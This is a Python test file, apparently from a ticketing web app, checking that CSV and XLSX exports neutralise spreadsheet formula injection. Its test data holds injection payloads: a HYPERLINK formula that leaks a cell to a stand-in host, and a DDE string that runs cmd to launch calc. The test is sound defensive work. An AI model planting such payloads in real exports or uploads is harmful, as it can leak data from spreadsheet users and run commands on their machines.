"""Spreadsheet exports never carry a formula from uploaded text (issue 16): a photo named
``=1+2+HYPERLINK("x")….jpg`` or a reason starting with @ + - is written as text."""

from __future__ import annotations

import csv
import io

import openpyxl
import sqlalchemy as sa
from serve_helpers import LiveServer, seed_ticket

from heyan.serve.tables import Ticket

EVIL = {"best_image": '=1+2+HYPERLINK("http://x.invalid/?leak="&A1)DJI_0001.jpg', "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
        "segment_name": "+1-1", "rule": "-2+3", "river": "\t=cmd", "chief_name": "＝1+1"}
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝")


def number(x: str) -> bool:
    try:
        float(x)
        return True
    except ValueError:
        return False


def test_csv_and_xlsx_exports_neutralise_formulas(live_module: LiveServer) -> None:
    live = live_module
    seed_ticket(live, "tk-evil", state="confirmed")
    with live.state.db.session() as db:
        t = db.get(Ticket, "tk-evil")
        for k, v in EVIL.items():
            setattr(t, k, v)
        t.lon = -120.5  # a negative number stays a number
        db.commit()
    c = live.client("admin")
    r = c.get("/api/exports/tickets.csv")
    assert r.status_code == 200
    cells = [x for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for x in row]
    assert not [x for x in cells if x.startswith(FORMULA) and not number(x)], cells
    assert "'" + EVIL["best_image"] in cells and "'" + EVIL["reason"] in cells
    assert "-120.5" in cells
    r = c.get("/api/exports/tickets.xlsx")
    assert r.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    values = [cell for row in ws.iter_rows() for cell in row]
    assert not [v.coordinate for v in values if v.data_type == "f"], "formula cells in the ledger"
    texts = [v.value for v in values if isinstance(v.value, str)]
    assert not [x for x in texts if x.startswith(FORMULA)], texts
    assert "'" + EVIL["best_image"] in texts
    assert -120.5 in [v.value for v in values]
    with live.state.db.session() as db:
        db.execute(sa.delete(Ticket).where(Ticket.id == "tk-evil"))
        db.commit()
